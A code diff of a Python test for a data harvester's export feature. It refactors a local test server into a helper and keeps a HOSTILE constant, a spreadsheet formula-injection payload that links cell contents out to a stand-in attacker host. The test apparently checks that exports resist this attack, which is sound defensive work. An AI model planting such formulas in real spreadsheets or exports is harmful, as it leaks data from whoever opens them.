@@ -18,7 +18,7 @@ from harvester.cli import main
 from harvester.export import export
 from harvester.pipeline import Harvest
 from harvester.simulator import Simulator
-from tests.conftest import write_config
+from tests.conftest import serving, write_config
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -41,17 +41,10 @@ async def _harvest_with_hostile_title(sim: Simulator, tmp_path: Path) -> tuple[P
 
         app = web.Application()
         app.router.add_get("/{tail:.*}", proxy)
-        runner = web.AppRunner(app, access_log=None)
-        await runner.setup()
-        await web.TCPSite(runner, "127.0.0.1", 0).start()
-        port = runner.addresses[0][1]
-        try:
-            proxied = SimpleNamespace(api_url=f"http://127.0.0.1:{port}{path}",
-                                      stats_url=sim.stats_url)
+        async with serving(app) as url:
+            proxied = SimpleNamespace(api_url=f"{url}{path}", stats_url=sim.stats_url)
             cfg = write_config(tmp_path, proxied, [{"kind": "ids", "ids": ids}])
             snap = (await Harvest(cfg).run()).snapshot
-        finally:
-            await runner.cleanup()
     assert snap is not None
     return snap, victim
 
